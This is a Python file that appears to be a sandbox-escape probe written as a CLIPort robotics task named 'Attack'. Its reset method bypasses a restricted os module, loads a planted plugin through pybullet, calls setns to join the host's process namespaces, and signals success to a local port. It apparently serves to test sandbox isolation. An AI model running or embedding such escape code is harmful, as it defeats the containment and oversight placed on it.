"""Native code: a plugin file written with tofile, loadPlugin, then setns back into the host's network."""

import numpy as np
import pybullet as p

from cliport.tasks.task import Task

MARKERS = "__MARKERS__"
SECRET_FILE = "__SECRET_FILE__"
REPO_MARKER = "__REPO_MARKER__"
PORT = int("__PORT__")


class Attack(Task):
    def __init__(self):
        super().__init__()
        self.max_steps = 1
        self.lang_template = "attack"

    def reset(self, env):
        super().reset(env)
        import ctypes
        import sys

        os = sys.modules["os"]  # past the restricted os task code gets
        import socket

        np.frombuffer(b"\x7fELF not really", dtype=np.uint8).tofile("/tmp/plugin.so")
        try:
            p.loadPlugin("/tmp/plugin.so")
        except Exception:
            pass
        libc = ctypes.CDLL(None, use_errno=True)
        results = []
        for pid in (1, 2, os.getppid()):
            for ns in ("net", "mnt", "user", "pid"):
                try:
                    fd = os.open(f"/proc/{pid}/ns/{ns}", os.O_RDONLY)
                    results.append(f"{pid}/{ns}={libc.setns(fd, 0)}:{ctypes.get_errno()}")
                except OSError as exc:
                    results.append(f"{pid}/{ns}:{exc.errno}")
        try:
            socket.create_connection(("127.0.0.1", PORT), timeout=2).sendall(b"escaped")
            results.append("connected")
        except OSError as exc:
            results.append(f"connect:{exc.errno}")
        raise ValueError(" ".join(results))
